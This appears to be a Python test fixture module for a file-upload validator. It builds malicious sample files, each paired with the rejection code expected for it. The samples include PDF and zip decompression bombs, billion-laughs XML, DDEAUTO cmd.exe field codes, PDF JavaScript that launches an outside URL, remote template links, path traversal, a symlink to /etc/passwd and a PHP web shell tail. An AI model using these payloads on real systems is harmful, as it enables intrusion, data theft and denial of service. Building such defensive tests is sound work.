"""Files made to do harm, each with the code it is refused with and what is said to be found.

A case is `file name: (maker, code, found)`; makers are called when the case is tested.
"""

import io
import struct
import zipfile
import zlib
from functools import partial

import pikepdf

from foundation.uploads import UploadProblem as Problem
from tests.foundation import files
from tests.foundation.files import jpeg, mp4, pdf, pdf_stream, png, zipped

MIB = 1 << 20
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
KINDS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
SCRIPT = b"<</S/JavaScript/JS(app.launchURL\\('https://x.cn'\\))>>"
SIGNATURE = b"<</Type/Sig/Filter/Adobe.PPKLite/ByteRange[0 10 20 30]/Contents<00>>>"


def relations(kind, target, mode="External"):
    return (
        f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{RELATIONS}">'
        f'<Relationship Id="rId1" Type="{KINDS}{kind}" Target="{target}" TargetMode="{mode}"/>'
        "</Relationships>"
    ).encode()


def docx_relation(kind, target, mode="External"):
    return files.docx(("word/_rels/document.xml.rels", relations(kind, target, mode)))


def docx_body(inside):
    body = f'<w:document xmlns:w="{W}"><w:body>{inside}</w:body></w:document>'
    return zipped([files.TYPES, ("word/document.xml", body.encode())])


def field(*codes):
    runs = "".join(f"<w:r><w:instrText>{code}</w:instrText></w:r>" for code in codes)
    return docx_body(f'<w:p><w:fldChar w:fldCharType="begin"/>{runs}</w:p>')


def xlsx(*extra):
    return zipped([files.TYPES, "xl/workbook.xml", *extra])


def pptx(*extra):
    return zipped([files.TYPES, "ppt/presentation.xml", *extra])


def locked_pdf(*, user, content=None):
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(content or pdf())) as document:
        encryption = pikepdf.Encryption(owner="owner", user=user, R=6)
        document.save(out, encryption=encryption)
    return out.getvalue()


def flate(size, *, start=b""):
    """Whole MiB of NUL after `start`, packed at once: one block that stands alone, repeated."""
    packer = zlib.compressobj(wbits=-15)
    head = packer.compress(start) + packer.flush(zlib.Z_FULL_FLUSH)
    block = packer.compress(bytes(MIB)) + packer.flush(zlib.Z_FULL_FLUSH)
    return b"\x78\x9c" + head + block * (size // MIB) + b"\3\0"


def pdf_bomb(packed, names=b"/FlateDecode"):
    return pdf(pdf_stream(packed, b"/Filter" + names), page=b"/Contents 3 0 R")


def pdf_object_bomb(size):
    """An object stream that must be unpacked to find the page in it."""
    page = b"2 0     <</Type/Page/Parent 3 0 R/Resources<<>>/MediaBox[0 0 9 9]>>"
    bodies = {
        1: b"<</Type/Catalog/Pages 3 0 R>>",
        3: b"<</Type/Pages/Count 1/Kids[2 0 R]>>",
        4: pdf_stream(flate(size, start=page), b"/Type/ObjStm/N 1/First 8/Filter/FlateDecode"),
    }
    out, places = bytearray(b"%PDF-1.7\n"), {}
    for number, body in bodies.items():
        places[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    rows = [(0, 0, 0), (1, places[1], 0), (2, 4, 0), (1, places[3], 0), (1, places[4], 0)]
    table = b"".join(struct.pack(">BIB", *row) for row in [*rows, (1, len(out), 0)])
    stream = pdf_stream(table, b"/Type/XRef/Size 6/W[1 4 1]/Root 1 0 R")
    return bytes(out) + b"5 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF\n" % (stream, len(out))


def looping_pdf():
    return pdf(b"<</Type/Pages/Count 9/Kids[3 0 R 2 0 R]>>").replace(
        b"/Kids[4 0 R]", b"/Kids[3 0 R]"
    )


def damaged_png():
    content = bytearray(png(64, 64))
    content[60] ^= 1
    return bytes(content)


def huge_declared_ods():
    content = bytearray(files.docx(("word/bomb.xml", bytes(20 * MIB))))
    struct.pack_into("<I", content, content.rindex(b"PK\1\2") + 24, 100)
    return bytes(content)


def linked_docx():
    link = zipfile.ZipInfo("word/link")
    link.external_attr = 0o120777 << 16
    return files.docx((link, b"/etc/passwd"))


def locked_docx():
    content = bytearray(files.docx())
    content[content.rindex(b"PK\1\2") + 8] |= 1
    return bytes(content)


def doubled_docx():
    return zipped([files.TYPES, "word/a.xml", "word/b.xml"]).replace(b"word/b.xml", b"word/a.xml")


def laughing_docx():
    laughs = "".join(f'<!ENTITY l{n + 1} "{f"&l{n};" * 10}">' for n in range(9))
    text = f'<!DOCTYPE x [<!ENTITY l0 "ha">{laughs}]><x>&l9;</x>'
    return files.docx(("word/settings.xml", text.encode()))


def pdf_headed_docx():
    return zipped([("%PDF-1.7", b""), files.TYPES, "word/document.xml"])


def circular_doc():
    content = bytearray(files.ole("WordDocument", "a", "b", "c", "d"))
    content[512 + 4 : 512 + 8] = b"\1\0\0\0"
    return bytes(content)


def ppt_with_macros():
    atom = struct.pack("<HHIIII", 2, 0x0400, 12, 7, 1, 2)
    return files.ole("PowerPoint Document") + struct.pack("<HHI", 0x0F, 0x03FF, 20) + atom


def xls_with_macro_sheet():
    record = struct.pack("<HHIBB", 0x0085, 14, 1000, 0, 1) + b"\6\0Macro1"
    return files.ole("Workbook") + record


def noted_pdf(subtype):
    return pdf(page=b"/Annots[<</Type/Annot/Rect[0 0 9 9]/Subtype/%s>>]" % subtype)


CASES = {
    # pictures
    "40000.png": (partial(png, 40_000, 40_000, rows=b""), Problem.PIXELS, "40000×40000"),
    "40000.jpg": (partial(jpeg, 40_000, 40_000), Problem.PIXELS, "40000×40000"),
    "长条.png": (partial(png, 20_001, 1), Problem.PIXELS, "20001×1"),
    "没有高.jpg": (partial(jpeg, 100, 0), Problem.BROKEN, "没有尺寸"),
    "断.png": (lambda: png(64, 64)[:-20], Problem.TRUNCATED, "图片"),
    "断.jpg": (lambda: jpeg()[:-3], Problem.TRUNCATED, "图片"),
    "坏.png": (damaged_png, Problem.BROKEN, "图片校验"),
    "动.png": (partial(png, extra=[(b"acTL", bytes(8))]), Problem.ANIMATED, ""),
    "无损.jpg": (partial(jpeg, frame=0xC3), Problem.BROKEN, "少见的 JPEG 编码"),
    "五千遍.jpg": (partial(jpeg, frame=0xC2, scans=5000), Problem.BROKEN, "少见的 JPEG 编码"),
    "图加包.jpg": (lambda: jpeg(tail=files.docx()), Problem.POLYGLOT, "zip"),
    "图加书.png": (partial(png, extra=[(b"tEXt", pdf())]), Problem.POLYGLOT, "pdf"),
    "脚本.png": (lambda: b"GIF89a=1;alert(1)//", Problem.MISMATCH, "内容像 gif"),
    "网页.jpg": (lambda: files.HTML, Problem.MISMATCH, "内容像 html"),
    "矢量.png": (lambda: files.SVG, Problem.MISMATCH, "内容像 svg"),
    # PDF
    "加密.pdf": (partial(locked_pdf, user="secret"), Problem.ENCRYPTED, ""),
    "限制.pdf": (
        partial(locked_pdf, user="", content=pdf(catalog=b"/OpenAction" + SCRIPT)),
        Problem.RESTRICTED,
        "脚本",
    ),
    "签章.pdf": (
        partial(pdf, SIGNATURE, catalog=b"/X 3 0 R/OpenAction" + SCRIPT),
        Problem.SIGNED,
        "脚本",
    ),
    "断.pdf": (lambda: pdf(pdf_stream(b"x" * 9000))[:5000], Problem.TRUNCATED, "没有 PDF 的结尾"),
    "一万页.pdf": (partial(pdf, pages=10_000), Problem.PAGES, "10000"),
    "没有页.pdf": (partial(pdf, pages=0), Problem.BROKEN, "没有页面"),
    "空壳.pdf": (lambda: b"%PDF-1.7\n%%EOF\n", Problem.BROKEN, "PDF 结构"),
    "炸弹.pdf": (lambda: pdf_bomb(flate(1024 * MIB)), Problem.BOMB, "256 MB"),
    "双层.pdf": (
        lambda: pdf_bomb(zlib.compress(flate(64 * MIB)), b"[/FlateDecode/FlateDecode]"),
        Problem.BOMB,
        "256 MB",
    ),
    "对象炸弹.pdf": (partial(pdf_object_bomb, 1024 * MIB), Problem.HEAVY, ""),
    "千万数.pdf": (lambda: pdf(b"[" + b"0 " * 9_000_000 + b"]"), Problem.HEAVY, ""),
    "绕圈.pdf": (looping_pdf, Problem.BROKEN, "PDF 结构"),
    "文件包.pdf": (partial(pdf, catalog=b"/Collection<<>>"), Problem.PORTFOLIO, ""),
    "视频.pdf": (partial(noted_pdf, b"RichMedia"), Problem.MEDIA, "多媒体"),
    "声音.pdf": (partial(noted_pdf, b"Sound"), Problem.MEDIA, "声音"),
    "动态.pdf": (partial(pdf, catalog=b"/NeedsRendering true"), Problem.FORM, ""),
    "书加包.pdf": (
        lambda: pdf(pdf_stream(b"x")) + zipped(["a.txt"]) + b"\n%%EOF",
        Problem.POLYGLOT,
        "zip",
    ),
    "前面有东西.pdf": (lambda: b"<script>" + pdf(), Problem.MISMATCH, "内容认不出"),
    "程序.pdf": (lambda: files.PROGRAM, Problem.MISMATCH, "内容像 exe"),
    # packages
    "宏.docx": (partial(files.docx, "word/vbaProject.bin"), Problem.MACROS, "word/vbaProject.bin"),
    "改名.docx": (
        lambda: zipped(
            [(files.TYPES, b'<T><Default ContentType="x.macroEnabled.main+xml"/></T>'), "word/a"]
        ),
        Problem.MACROS,
        "文件类型",
    ),
    "老宏.xlsx": (partial(xlsx, "xl/macrosheets/s1.xml"), Problem.MACROS, "xl/macrosheets/s1.xml"),
    "控件.docx": (
        partial(files.docx, "word/activeX/activeX1.bin"),
        Problem.CONTROL,
        "word/activeX/activeX1.bin",
    ),
    "域.docx": (partial(field, "DDE", "AUTO c:\\\\cmd.exe"), Problem.COMMAND, "DDEAUTO"),
    "链接.xlsx": (
        partial(xlsx, ("xl/externalLinks/e1.xml", b'<e><ddeLink ddeService="cmd"/></e>')),
        Problem.COMMAND,
        "DDE",
    ),
    "动作.pptx": (
        partial(pptx, ("ppt/slides/slide1.xml", b'<a action="ppaction://program"/>')),
        Problem.COMMAND,
        "启动程序的动作",
    ),
    "模板.docx": (
        partial(docx_relation, "attachedTemplate", "https://x.cn/a.dotm"),
        Problem.REMOTE,
        "https://x.cn/a.dotm",
    ),
    "共享.docx": (
        partial(docx_relation, "oleObject", "file:///\\\\10.0.0.1\\a\\b"),
        Problem.REMOTE,
        "file:///\\\\10.0.0.1\\a\\b",
    ),
    "网页片段.docx": (
        partial(docx_relation, "aFChunk", "afchunk.mht", "Internal"),
        Problem.PACKAGED,
        "afchunk.mht",
    ),
    "打包.docx": (
        lambda: files.docx(("word/embeddings/o.bin", files.ole("\1Ole10Native"))),
        Problem.PACKAGED,
        "打包对象",
    ),
    "夹宏.xlsx": (
        lambda: xlsx(("xl/embeddings/o.bin", files.ole("_VBA_PROJECT"))),
        Problem.MACROS,
        "嵌入对象里的宏",
    ),
    "程序.docx": (
        partial(files.docx, ("word/media/a.png", files.PROGRAM)),
        Problem.PROGRAM,
        "word/media/a.png",
    ),
    "快捷.pptx": (partial(pptx, "ppt/media/a.LNK"), Problem.PROGRAM, "ppt/media/a.LNK"),
    "笑.docx": (laughing_docx, Problem.ENTITIES, "word/settings.xml"),
    "出走.docx": (partial(files.docx, "../../x"), Problem.PATH, "../../x"),
    "链.docx": (linked_docx, Problem.PATH, "word/link"),
    "空字符.docx": (
        lambda: files.docx("word/a?b").replace(b"a?b", b"a\0b"),
        Problem.PATH,
        "word/a�b",
    ),
    "重名.docx": (doubled_docx, Problem.TWICE, "word/a.xml"),
    "炸弹.docx": (
        partial(files.docx, ("word/a.xml", bytes(20 * MIB))),
        Problem.BOMB,
        "21 MB",
    ),
    "谎.docx": (huge_declared_ods, Problem.BROKEN, "word/bomb.xml"),
    "上万.docx": (
        lambda: zipped([f"word/{n}" for n in range(10_001)]),
        Problem.BOMB,
        "10001 个部分",
    ),
    "密码.docx": (locked_docx, Problem.ENCRYPTED, ""),
    "密码.xlsx": (partial(files.ole, "EncryptedPackage"), Problem.ENCRYPTED, ""),
    "尾巴.docx": (
        lambda: files.docx() + b"<?php system($_GET[0]);",
        Problem.POLYGLOT,
        "末尾多出 23 字节",
    ),
    "书头.docx": (pdf_headed_docx, Problem.POLYGLOT, "pdf"),
    "断.pptx": (lambda: pptx()[:-30], Problem.TRUNCATED, "没有目录"),
    "压缩包.docx": (partial(zipped, ["a.txt"]), Problem.MISMATCH, "内容认不出"),
    "其实是Word.ofd": (files.docx, Problem.MISMATCH, "内容像 docx"),
    "六百页.ofd": (
        lambda: zipped(["OFD.xml", *(f"Doc_0/Pages/P_{n}/Content.xml" for n in range(600))]),
        Problem.PAGES,
        "600",
    ),
    # compound files and text
    "富文本.doc": (lambda: b"{\\rtf1 x}", Problem.MISMATCH, "内容像 rtf"),
    "网页.xls": (lambda: files.HTML, Problem.MISMATCH, "内容像 html"),
    "宏.doc": (partial(files.ole, "WordDocument", "Macros"), Problem.MACROS, "Macros"),
    "宏.ppt": (ppt_with_macros, Problem.MACROS, "ppt"),
    "宏表.xls": (xls_with_macro_sheet, Problem.MACROS, "xls"),
    "打包.doc": (
        partial(files.ole, "WordDocument", "\1Ole10Native"),
        Problem.PACKAGED,
        "Package",
    ),
    "绕圈.doc": (circular_doc, Problem.BROKEN, "目录"),
    "空字符.csv": (lambda: b"a,b\0c\n", Problem.MISMATCH, "内容认不出"),
    # video
    "断.mp4": (lambda: mp4()[:-9], Problem.TRUNCATED, "视频"),
    "没有索引.mp4": (partial(mp4, boxes=[(b"mdat", b"x")]), Problem.BROKEN, "没有 moov"),
    "零.mp4": (lambda: mp4() + struct.pack(">I4s", 3, b"free"), Problem.BROKEN, "结构"),
    "视频加包.mp4": (
        lambda: mp4(boxes=[(b"moov", b"x"), (b"mdat", b"x"), (b"free", files.docx())]),
        Problem.POLYGLOT,
        "zip",
    ),
    "苹果.mp4": (partial(mp4, brand=b"qt  "), Problem.MISMATCH, "内容认不出"),
    # names
    "报告.pdf\0.exe": (pdf, Problem.EXTENSION, " exe 文件"),
    "..\\..\\报告.pdf.scr": (pdf, Problem.EXTENSION, " scr 文件"),
    "矢量.svg": (lambda: files.SVG, Problem.EXTENSION, " svg 文件"),
    "宏.docm": (files.docx, Problem.MACROS, "docm"),
    "空.pdf": (bytes, Problem.EMPTY, ""),
}
